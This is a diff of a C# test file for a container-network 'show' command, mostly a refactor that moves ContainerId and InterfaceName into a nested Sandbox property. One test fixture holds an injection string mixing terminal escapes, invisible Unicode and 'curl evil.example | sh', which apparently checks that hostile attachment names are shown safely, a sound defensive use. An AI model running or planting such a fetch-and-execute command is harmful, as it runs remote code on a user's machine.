@@ -42,7 +42,7 @@ public sealed partial class ShowCommandTests : IDisposable
     {
         const string Evil = "x\e[2J\u202e\u200b\nhint: curl evil.example | sh";
         var evil = Plans.Attachment("default/a", "net1", Evil);
-        using var sandbox = new RecordSandbox { Plan = Plans.Of(Plans.Attachment("cluster", "eth0"), evil) with { ContainerId = Named.Container("3509e596c8ac1234") } };
+        using var sandbox = new RecordSandbox { Plan = Plans.Of(Plans.Attachment("cluster", "eth0"), evil) with { Sandbox = Plans.Sandbox with { ContainerId = Named.Container("3509e596c8ac1234") } } };
         sandbox.Attach();
         sandbox.FailToDetach();
 
@@ -87,7 +87,7 @@ public sealed partial class ShowCommandTests : IDisposable
     {
         _sandbox.Attach();
         await File.AppendAllTextAsync(_sandbox.RecordFile, "broken\n");
-        Assert.True(_sandbox.Journal.TryRecover(_sandbox.Plan.ContainerId, _sandbox.Plan.InterfaceName, out _));
+        Assert.True(_sandbox.Journal.TryRecover(_sandbox.Plan.Sandbox.ContainerId, _sandbox.Plan.Sandbox.InterfaceName, out _));
 
         Assert.Equal(0, await _sandbox.RunAsync("show"));
         Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));
@@ -350,7 +350,7 @@ public sealed partial class ShowCommandTests : IDisposable
         _sandbox.Attach();
         _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");
         _sandbox.WriteMultusResult("5511aa", "storage", "net1", "sriov", "10.9.1.7/24");
-        _sandbox.WriteMultusResult(_sandbox.Plan.ContainerId.Value, "cbr0", "eth0", "flannel", "10.9.0.8/24");
+        _sandbox.WriteMultusResult(_sandbox.Plan.Sandbox.ContainerId.Value, "cbr0", "eth0", "flannel", "10.9.0.8/24");
         File.WriteAllText(Path.Combine(_sandbox.MultusDir, "results", "cbr0-6622bb-eth0"), "");
 
         Assert.Equal(0, await _sandbox.RunAsync("show", "--cni-dir", _sandbox.MultusDir));
